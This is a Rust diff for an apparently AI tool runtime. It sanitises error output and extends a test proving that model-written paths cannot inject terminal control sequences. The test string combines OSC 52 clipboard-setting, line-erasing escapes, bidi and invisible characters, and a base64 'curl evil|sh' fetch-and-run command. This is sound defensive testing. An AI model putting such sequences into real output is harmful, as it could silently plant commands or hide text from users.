@@ -13,6 +13,8 @@ use tool_runtime::{
 
 mod hunks;
 
+pub(crate) use hunks::{visible, visible_lines};
+
 use crate::cli::CallArgs;
 use crate::ending::{Outcome, Stop, UsageError, print, registry};
 use crate::prompt::Terminal;
@@ -85,9 +87,11 @@ pub(crate) async fn call(args: CallArgs) -> Result<Outcome, Stop> {
             }
         })?;
     } else {
+        // The error may quote the model's arguments or a file: shown as the prompt shows
+        // them.
         eprintln!(
             "error: {}",
-            result.error.as_deref().unwrap_or(&result.content)
+            visible_lines(result.error.as_deref().unwrap_or(&result.content))
         );
     }
     Ok(if result.success {
@@ -281,14 +285,22 @@ mod tests {
     fn what_a_model_wrote_cannot_drive_the_terminal() {
         // A path that would set the clipboard (OSC 52), erase the line above, or reorder
         // what follows; in the arguments, the preview and a change's path.
-        let hostile =
-            "a\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[1A\u{1b}[2K\r\u{202e}\u{9b}\u{200b}.txt";
+        let hostile = "a\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[1A\u{1b}[2K\r\u{202e}\u{9b}\u{200b}\u{e0041}\u{2028}\u{fe0f}.txt";
         let mut call = request(None);
         call.arguments = serde_json::json!({"path": hostile, "content": "x\u{85}"});
         call.preview = Some(format!("create `{hostile}`\nsecond line"));
         let (_, out) = prompt(&call, Some("n\n"));
         for raw in [
-            '\u{1b}', '\u{7}', '\r', '\u{202e}', '\u{9b}', '\u{85}', '\u{200b}',
+            '\u{1b}',
+            '\u{7}',
+            '\r',
+            '\u{202e}',
+            '\u{9b}',
+            '\u{85}',
+            '\u{200b}',
+            '\u{e0041}',
+            '\u{2028}',
+            '\u{fe0f}',
         ] {
             assert!(!out.contains(raw), "{raw:?} reached the terminal: {out:?}");
         }
